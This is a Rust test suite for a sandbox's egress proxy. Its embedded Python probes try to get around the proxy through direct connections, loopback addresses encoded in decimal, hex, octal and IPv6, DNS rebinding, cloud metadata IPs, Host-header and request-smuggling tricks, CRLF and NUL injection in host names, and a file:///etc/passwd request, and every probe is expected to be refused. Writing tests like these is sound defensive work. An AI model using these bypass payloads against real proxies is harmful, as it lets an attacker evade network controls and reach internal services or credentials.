//! Attempts to reach through the proxy what it does not allow, and to get around it.

use super::place::{NO_TRACES, Traces, listener, nothing_came, own_address, prober, proxied};
use crate::attempt::{Attempt, Expect, FILTER, Outcome, PLAIN};
use crate::stage::Stage;

/// The lowest level has no way to the proxy, and no other.
const fn answers(above: &'static [&'static str]) -> Expect {
    Expect {
        basic: Outcome::Denied(FILTER),
        standard: Outcome::Denied(above),
        strict: Outcome::Denied(above),
    }
}

const REFUSED: &[&str] = &["403"];

/// A program with means to talk to the proxy: `http` gives the status of an answer, `socks` the code.
macro_rules! talking {
    ($program:expr) => {
        concat!(
            r#"
import struct
def proxy(): return socket.create_connection(("127.0.0.1", 3128), 10)
def http(text):
    with proxy() as stream:
        stream.sendall(text.replace("\n", "\r\n").encode())
        answer = b""
        while piece := stream.recv(4096): answer += piece
    return answer.split(b" ")[1].decode()
def connect(target): return http(f"CONNECT {target} HTTP/1.1\n\n")
def get(target): return http(f"GET http://{target}/ HTTP/1.1\n\n")
def socks(host, port, command=1):
    host = host if isinstance(host, bytes) else host.encode()
    with proxy() as stream:
        stream.sendall(b"\x05\x01\x00")
        stream.recv(2)
        stream.sendall(bytes([5, command, 0, 3, len(host)]) + host + struct.pack(">H", port))
        return str(stream.recv(10)[1])
"#,
            $program
        )
    };
}

/// Everything public is allowed, and a listener stands on the machine's loopback.
fn everything(stage: &mut Stage) -> Result<(), String> {
    listener(stage)?;
    proxied(stage, &["*"], &[], NO_TRACES)
}

pub(super) fn rows() -> Vec<Attempt> {
    let mut rows = around();
    rows.extend(hosts());
    rows.extend(addresses());
    rows.extend(names());
    rows.extend(special_places());
    rows.extend(protocols());
    rows
}

fn around() -> Vec<Attempt> {
    vec![
        Attempt {
            name: "proxy-bypass-by-connecting-directly",
            stopped_by: "network namespace; basic: seccomp",
            program: r#"
t(lambda: socket.create_connection(("203.0.113.5", 443), 5))
t(lambda: socket.create_connection(("127.0.0.1", int(E["PORT"])), 5))
"#,
            prepare: everything,
            expect: answers(&["ENETUNREACH", "ECONNREFUSED"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-bypass-without-the-variables",
            stopped_by: "network namespace; basic: seccomp",
            program: r#"
import http.client
for key in list(E):
    if key.lower().endswith("_proxy"): del E[key]
def request(host, port): http.client.HTTPConnection(host, port, timeout=5).request("GET", "/")
t(lambda: request("203.0.113.5", 80))
t(lambda: request("127.0.0.1", int(E["PORT"])))
"#,
            prepare: everything,
            expect: answers(&["ENETUNREACH", "ECONNREFUSED"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-port-from-outside",
            stopped_by: "network namespace: its listener is inside",
            program: talking!(
                r#"
t(lambda: get("127.0.0.1:" + E["PORT"]))
"#
            ),
            prepare: |stage| {
                prober(stage, "127.0.0.1:3128")?;
                proxied(
                    stage,
                    &["127.0.0.1:PORT"],
                    &[],
                    Traces {
                        asked: &[],
                        connected: &["127.0.0.1:PORT"],
                    },
                )
            },
            expect: answers(&["ECONNREFUSED"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-as-a-way-to-itself",
            stopped_by: "proxy: loopback addresses",
            program: talking!(
                r#"for target in ("127.0.0.1:3128", "localhost:3128"): t(lambda: connect(target))"#
            ),
            prepare: |stage| {
                proxied(
                    stage,
                    &["*"],
                    &[("localhost", &["127.0.0.1"])],
                    Traces {
                        asked: &["localhost"],
                        connected: &[],
                    },
                )
            },
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
    ]
}

fn hosts() -> Vec<Attempt> {
    vec![
        Attempt {
            name: "proxy-connect-to-a-refused-host",
            stopped_by: "proxy: rules",
            program: talking!(
                r#"
for target in ("refused.example:443", "example.com.evil.net:443", "evilexample.com:443", "example.com:443"):
    t(lambda: connect(target))
"#
            ),
            prepare: |stage| proxied(stage, &["*.example.com"], &[], NO_TRACES),
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-plain-request-to-a-refused-host",
            stopped_by: "proxy: rules",
            program: talking!(r#"t(lambda: get("refused.example"))"#),
            prepare: |stage| proxied(stage, &["allowed.example"], &[], NO_TRACES),
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-socks-to-a-refused-host",
            stopped_by: "proxy: rules",
            program: talking!(r#"t(lambda: socks("refused.example", 443))"#),
            prepare: |stage| proxied(stage, &["allowed.example"], &[], NO_TRACES),
            expect: answers(&["2"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-look-up-of-a-refused-name",
            stopped_by: "proxy: rules, before any look-up",
            program: talking!(
                r#"
for number in range(5): t(lambda: connect(f"secret-{number}.stolen.example:443"))
"#
            ),
            prepare: |stage| proxied(stage, &["allowed.example"], &[], NO_TRACES),
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-refused-port",
            stopped_by: "proxy: rules",
            program: talking!(
                r#"
for port in (22, 80, 444): t(lambda: connect(f"allowed.example:{port}"))
t(lambda: get("allowed.example"))
"#
            ),
            prepare: |stage| proxied(stage, &["allowed.example:443"], &[], NO_TRACES),
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-denied-host-among-allowed-ones",
            stopped_by: "proxy: rules, deny first",
            program: talking!(
                r#"
for host in ("denied.example", "DENIED.example.", "a.denied.net"): t(lambda: connect(host + ":443"))
"#
            ),
            prepare: |stage| {
                let rules = ["*", "denied.example", "!denied.example", "!*.denied.net"];
                proxied(stage, &rules, &[], NO_TRACES)
            },
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-address-without-a-rule",
            stopped_by: "proxy: rules",
            program: talking!(
                r#"
for target in ("203.0.113.5:443", "[2001:db8::1]:443"): t(lambda: connect(target))
"#
            ),
            prepare: |stage| proxied(stage, &["allowed.example"], &[], NO_TRACES),
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
    ]
}

fn addresses() -> Vec<Attempt> {
    vec![
        Attempt {
            name: "proxy-loopback-address",
            stopped_by: "proxy: loopback addresses",
            program: talking!(
                r#"
for host in ("127.0.0.1", "127.0.0.1.", "127.8.8.8", "0.0.0.0", "[::1]", "[::]"):
    t(lambda: connect(f"{host}:{E['PORT']}"))
    t(lambda: get(f"{host}:{E['PORT']}"))
"#
            ),
            prepare: everything,
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-loopback-in-other-numbers",
            stopped_by: "proxy: names do not end in numbers",
            program: talking!(
                r#"
for host in ("2130706433", "0x7f000001", "017700000001", "127.1", "0x7f.1", "0177.0.0.1", "127.0.0.0x1"):
    t(lambda: connect(f"{host}:{E['PORT']}"))
"#
            ),
            prepare: everything,
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-loopback-in-ipv6",
            stopped_by: "proxy: addresses that carry addresses",
            program: talking!(
                r#"
for host in ("::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::1", "::ffff:0:7f00:1"):
    t(lambda: connect(f"[{host}]:{E['PORT']}"))
"#
            ),
            prepare: everything,
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
    ]
}

fn names() -> Vec<Attempt> {
    vec![
        Attempt {
            name: "proxy-name-that-leads-inside",
            stopped_by: "proxy: the resolved address is checked",
            program: talking!(
                r#"
for host in ("inside.example", "inside6.example", "link.example", "private.example", "private6.example"):
    t(lambda: connect(f"{host}:{E['PORT']}"))
"#
            ),
            prepare: |stage| {
                listener(stage)?;
                proxied(
                    stage,
                    &["*"],
                    &[
                        ("inside.example", &["127.0.0.1"]),
                        ("inside6.example", &["::1"]),
                        ("link.example", &["fe80::1"]),
                        ("private.example", &["192.168.1.1"]),
                        ("private6.example", &["fd12::1"]),
                    ],
                    Traces {
                        asked: &[
                            "inside.example",
                            "inside6.example",
                            "link.example",
                            "private.example",
                            "private6.example",
                        ],
                        connected: &[],
                    },
                )
            },
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-name-that-changes-its-address",
            stopped_by: "proxy: one look-up, and that address is connected to",
            program: talking!(
                r#"
def both():
    first = connect(f"rebind.example:{E['PORT']}")
    second = connect(f"rebind.example:{E['PORT']}")
    return f"{first} {second}"
t(both)
"#
            ),
            prepare: |stage| {
                listener(stage)?;
                proxied(
                    stage,
                    &["rebind.example"],
                    &[("rebind.example", &["203.0.113.5", "127.0.0.1"])],
                    Traces {
                        asked: &["rebind.example", "rebind.example"],
                        connected: &["203.0.113.5:PORT"],
                    },
                )
            },
            // Nobody answers at the first address; the second one is refused.
            expect: answers(&["502 403"]),
            intact: nothing_came,
            ..PLAIN
        },
    ]
}

fn special_places() -> Vec<Attempt> {
    vec![
        Attempt {
            name: "proxy-metadata-service",
            stopped_by: "proxy: metadata addresses",
            program: talking!(
                r#"
for host in ("169.254.169.254", "100.100.100.200", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "metadata.example"):
    t(lambda: get(host))
"#
            ),
            prepare: |stage| {
                stage.variables.push(("PORT", "80".to_owned()));
                proxied(
                    stage,
                    &["*"],
                    &[("metadata.example", &["169.254.169.254"])],
                    Traces {
                        asked: &["metadata.example"],
                        connected: &[],
                    },
                )
            },
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-address-of-the-machine",
            stopped_by: "proxy: addresses of its own interfaces",
            program: talking!(
                r#"
t(lambda: connect(f"{E['OWN']}:{E['PORT']}"))
"#
            ),
            prepare: |stage| {
                own_address(stage)?;
                proxied(stage, &["*"], &[], NO_TRACES)
            },
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
    ]
}

fn protocols() -> Vec<Attempt> {
    let allowed = |stage: &mut Stage| proxied(stage, &["allowed.example"], &[], NO_TRACES);
    vec![
        Attempt {
            name: "proxy-host-field-of-another-host",
            stopped_by: "proxy: one host in a request",
            program: talking!(
                r#"
t(lambda: http("GET http://allowed.example/ HTTP/1.1\nHost: refused.example\n\n"))
t(lambda: http("GET http://allowed.example/ HTTP/1.1\nHost: allowed.example\nHost: refused.example\n\n"))
t(lambda: http("CONNECT allowed.example:443 HTTP/1.1\nHost: refused.example:443\n\n"))
t(lambda: http("GET / HTTP/1.1\nHost: allowed.example\n\n"))
t(lambda: http("GET http://allowed.example/ HTTP/1.1\nContent-Length: 3\nTransfer-Encoding: chunked\n\n0\n\n"))
"#
            ),
            prepare: allowed,
            expect: answers(&["400"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-user-name-that-looks-like-a-host",
            stopped_by: "proxy: no user names",
            program: talking!(
                r#"
t(lambda: connect("allowed.example:443@refused.example:443"))
t(lambda: get("allowed.example@refused.example"))
t(lambda: get("allowed.example\\@refused.example"))
"#
            ),
            prepare: allowed,
            expect: answers(REFUSED),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-odd-characters-in-names",
            stopped_by: "proxy: characters of names",
            program: talking!(
                r#"
for host in (b"allowed.example\0.refused.example", b"refused.example\0allowed.example", b"allowed.example\r\nX: y",
             b"refused.example#allowed.example", b"allowed.example/", b"allowed.example%00", b"\xff\xfe"):
    t(lambda: socks(host, 443))
"#
            ),
            prepare: allowed,
            expect: answers(&["2"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-socks-bind-and-udp",
            stopped_by: "proxy: CONNECT alone",
            program: talking!(
                r#"
for command in (2, 3, 0, 255): t(lambda: socks("allowed.example", 443, command))
"#
            ),
            prepare: allowed,
            expect: answers(&["7"]),
            intact: nothing_came,
            ..PLAIN
        },
        Attempt {
            name: "proxy-other-schemes",
            stopped_by: "proxy: http:// alone",
            program: talking!(
                r#"
for target in ("https://allowed.example/", "ftp://allowed.example/", "file:///etc/passwd", "allowed.example", "*"):
    t(lambda: http(f"GET {target} HTTP/1.1\n\n"))
"#
            ),
            prepare: allowed,
            expect: answers(&["400"]),
            intact: nothing_came,
            ..PLAIN
        },
    ]
}
